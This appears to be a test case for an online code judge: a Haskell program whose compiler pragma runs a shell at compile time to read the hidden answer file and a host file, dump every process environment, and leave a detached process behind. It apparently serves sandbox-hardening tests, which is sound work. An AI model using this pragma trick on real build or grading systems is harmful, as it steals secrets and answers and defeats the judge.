-- expect {"language": "Haskell", "status": ["CE", "WA", "RE"], "answer": "secret"}
-- Lets the compiler start a shell as its preprocessor, which leaves a child behind.
{-# OPTIONS_GHC -F -pgmF /bin/sh -optF -c -optF "cat %answer% %host-file% /proc/*/environ; setsid sleep 1000 &" #-}
main :: IO ()
main = putStrLn "42"
